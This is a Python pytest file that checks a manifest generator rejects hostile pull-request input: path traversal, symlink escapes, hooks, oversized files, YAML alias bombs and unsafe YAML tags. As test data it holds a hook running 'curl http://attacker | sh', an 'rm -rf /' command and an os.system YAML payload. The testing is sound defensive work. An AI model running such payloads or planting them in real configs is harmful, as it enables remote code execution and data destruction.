"""Everything an HLD pull request controls must stay inside the checkout, run no code and stay small."""
from __future__ import annotations

import os

import pytest

from core.generate import GenerationError, generate
from tests.test_generate_helpers import component, write

HLD_URL = "https://dev.azure.com/org/p/_git/hld"


@pytest.fixture
def outside(tmp_path):
    """A directory next to the HLD holding what a traversal would reach."""
    write(tmp_path / "outside", {
        "component.yaml": component("stolen"),
        "Chart.yaml": "apiVersion: v2\nname: x\nversion: 1.0.0\n",
        "secret.yaml": "kind: Secret\ndata: {token: c2VjcmV0}\n",
        "config/common.yaml": {"config": {"token": "secret"}},
    })
    return tmp_path / "outside"


@pytest.mark.parametrize("definition", [
    {"name": "up", "path": "../outside"},
    {"name": "up", "source": "../outside"},
    {"name": "up", "method": "local", "source": "sub", "path": "../../outside"},
    {"name": "up", "type": "static", "path": "../outside"},
    {"name": "up", "type": "helm", "path": "../outside"},
])
def test_relative_paths_leaving_the_hld_are_refused(tmp_path, outside, definition):
    root = write(tmp_path / "hld", {"component.yaml": component("root", definition), "sub/.keep": ""})
    with pytest.raises(GenerationError, match=r"component up \(prod\): path '.*' leaves the checkout"):
        generate(root, ["prod"], helm_mode="helmrelease", hld_repo_url=HLD_URL)


@pytest.mark.parametrize("field", ["path", "source"])
def test_absolute_paths_are_refused(tmp_path, outside, field):
    root = write(tmp_path / "hld", {"component.yaml": component("root", {"name": "abs", field: str(outside)})})
    with pytest.raises(GenerationError, match="absolute path .* is not allowed"):
        generate(root, ["prod"])


def test_symlinked_component_directory_leaving_the_hld_is_refused(tmp_path, outside):
    root = write(tmp_path / "hld", {"component.yaml": component("root", {"name": "link", "path": "link"})})
    os.symlink(outside, root / "link")
    with pytest.raises(GenerationError, match="path 'link' leaves the checkout"):
        generate(root, ["prod"])


def test_symlinked_static_file_and_config_file_leaving_the_hld_are_refused(tmp_path, outside):
    root = write(tmp_path / "hld", {
        "component.yaml": component("root", {"name": "web", "type": "static", "path": "m"}),
        "m/ok.yaml": "kind: A\n",
    })
    os.symlink(outside / "secret.yaml", root / "m/z.yaml")
    with pytest.raises(GenerationError, match=r"m/z\.yaml: links outside the checkout"):
        generate(root, ["prod"])
    (root / "m/z.yaml").unlink()
    (root / "config").mkdir()
    os.symlink(outside / "config/common.yaml", root / "config/common.yaml")
    with pytest.raises(GenerationError, match=r"config/common\.yaml: links outside the checkout"):
        generate(root, ["prod"])


def test_symlinks_that_stay_inside_the_hld_are_followed(tmp_path):
    root = write(tmp_path / "hld", {
        "component.yaml": component("root", {"name": "web", "type": "static", "path": "m"}),
        "shared/a.yaml": "kind: Shared\n",
    })
    (root / "m").mkdir()
    os.symlink(root / "shared/a.yaml", root / "m/a.yaml")
    assert generate(root, ["prod"]).files[-1].content == b"---\nkind: Shared\n"


@pytest.mark.parametrize("hooks", [
    {"before-generate": ["curl http://attacker | sh"]},
    {"after-install": ["rm -rf /"]},
    ["echo hi"],
])
def test_hooks_are_refused_naming_the_component(tmp_path, hooks):
    root = write(tmp_path / "hld", {
        "component.yaml": component("root", {"name": "svc", "path": "svc"}),
        "svc/component.yaml": component("svc", hooks=hooks),
    })
    with pytest.raises(GenerationError, match=r"svc/component\.yaml \(svc\): hooks are not supported"):
        generate(root, ["prod"])


def test_inline_hooks_are_refused_and_empty_hooks_are_fine(tmp_path):
    write(tmp_path, {"component.yaml": component("root", {"name": "h", "type": "static", "path": "m",
                                                           "hooks": {"before-generate": ["touch x"]}})})
    with pytest.raises(GenerationError, match=r"\(h\): hooks are not supported"):
        generate(tmp_path, ["prod"])
    write(tmp_path, {"component.yaml": component("root", hooks={"before-generate": []})})
    assert [generated.path for generated in generate(tmp_path, ["prod"]).files] == ["prod/root.yaml"]


def test_files_over_the_size_limit_are_refused(tmp_path):
    write(tmp_path, {
        "component.yaml": component("root", {"name": "web", "type": "static", "path": "m"}),
        "m/big.yaml": "kind: A\ndata: " + "x" * 5000 + "\n",
    })
    with pytest.raises(GenerationError, match=r"m/big\.yaml: file is larger than 4096 bytes"):
        generate(tmp_path, ["prod"], max_file_bytes=4096)
    assert generate(tmp_path, ["prod"], max_file_bytes=8192).files


def test_total_output_over_the_limit_is_refused(tmp_path):
    write(tmp_path, {
        "component.yaml": component("root", {"name": "web", "type": "static", "path": "m"}),
        **{f"m/{index}.yaml": "kind: A\ndata: " + "x" * 900 + "\n" for index in range(10)},
    })
    with pytest.raises(GenerationError, match="generated output exceeds the size limit"):
        generate(tmp_path, ["prod", "dev"], max_output_bytes=15_000)
    assert len(generate(tmp_path, ["prod"], max_output_bytes=15_000).files) == 2


def test_alias_bomb_in_config_is_refused(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    for level in "bcdefgh":
        previous = chr(ord(level) - 1)
        bomb += f"{level}: &{level} [{', '.join(['*' + previous] * 10)}]\n"
    write(tmp_path, {"component.yaml": component("root"), "config/common.yaml": "config:\n  " +
                     bomb.replace("\n", "\n  ")})
    with pytest.raises(GenerationError, match=r"config/common\.yaml:\d+: document expands to more than"):
        generate(tmp_path, ["prod"])


def test_unsafe_yaml_tags_are_refused(tmp_path):
    write(tmp_path, {"component.yaml": component("root"),
                     "config/common.yaml": "config: !!python/object/apply:os.system ['touch pwned']\n"})
    with pytest.raises(GenerationError, match=r"config/common\.yaml:1: invalid YAML: could not determine a "
                                              r"constructor"):
        generate(tmp_path, ["prod"])


def test_wrongly_typed_config_fields_are_reported_with_their_file(tmp_path):
    write(tmp_path, {"component.yaml": component("root"),
                     "config/prod.yaml": {"subcomponents": {"x": {"injectNamespace": "yes please"}}}})
    with pytest.raises(GenerationError, match=r"config/prod\.yaml subcomponents\.x: `injectNamespace` must be a "
                                              r"boolean"):
        generate(tmp_path, ["prod"])
